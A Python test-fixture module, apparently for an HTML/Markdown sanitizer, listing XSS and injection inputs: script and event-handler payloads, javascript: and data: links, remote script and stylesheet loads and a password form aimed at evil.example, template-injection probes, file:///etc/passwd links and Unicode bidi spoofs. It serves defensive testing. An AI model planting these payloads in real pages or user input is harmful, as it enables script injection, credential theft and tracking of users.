"""Text that was written to do harm: in Markdown, in HTML, in addresses, in Unicode."""

from __future__ import annotations

import json

import pytest
from paths import NODE_MODULES

BLNS = NODE_MODULES / "big-list-of-naughty-strings/blns.json"

# After the H5SC vectors, DOMPurify's fixtures and OWASP's filter evasion, as entries may hold them.
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<svg/onload=alert(1)><svg><animate xlink:href=#x attributeName=href values=javascript:1 />",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x",
    "<form action=//evil.example><input name=password><button formaction=javascript:1>x",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><object data=x></object><embed src=x>",
    "</article></div></main></live-blog><h1>Another page</h1>",
    "</bdi></p></textarea></select></title></noscript><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php alert(1) ?>",
    "\"><svg onload=alert(1)> '><svg onload=alert(1)> `><svg onload=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ site.__class__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full width
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example \"' onmouseover='alert(1)\")",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: data:image/svg+xml,<svg/onload=alert(1)>",
    "[![x](x)](javascript:alert(1))",
    "```<script>alert(1)</script>\n<img onerror=alert(1)>\n```",
    '```" onload=alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | x |\n|-|-|\n| <img onerror=1> | [x](javascript:1) |",
    "# <h1 onclick=alert(1)>\n\n1. <li onclick=alert(1)>\n\n> <q cite=javascript:1>",
    "***<b>*_~~**[`",
]
UNICODE = [
    "safe\u202egnp.exe",
    "\u202e\u202d\u202c\u2066\u2067\u2068 unclosed \u202e",
    "שלום <b>\u202e</b> مرحبا",
    "a\u0300" + "\u0301" * 200 + " Z̸̡͖a̷l̶g̴o̵",
    "\u0000\u0001\u0007\b\u001b[31m\u007f\u0085\u009f",
    "\ufffe\uffff\U0001ffff\U0010ffff\ue000",
    "\u2028\u2029\u200b\u200d\u2060\ufeff x",
    "👩‍👩‍👧‍👦🏴‍☠️\U000e0067\U000e0062",
    "\u1680\u3000 x",
]
ADDRESSES = [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "/relative",
    "https://",
    "https:///x",
    "http://[::1",
    'https://a.example/" onclick=alert(1)',
    "https://a.example/<script>",
    "https://a.example\\@evil.example",
    "https://a.example/\u0001",
    "https://a.example/ x",
    "ftp://a.example",
    "file:///etc/passwd",
    "mailto:a@example.org",
]


def naughty_strings() -> list[str]:
    """The whole of the big list of naughty strings."""
    if not BLNS.is_file():
        pytest.fail("the big list of naughty strings is missing; run: make test", pytrace=False)
    found: list[str] = json.loads(BLNS.read_bytes())
    return found
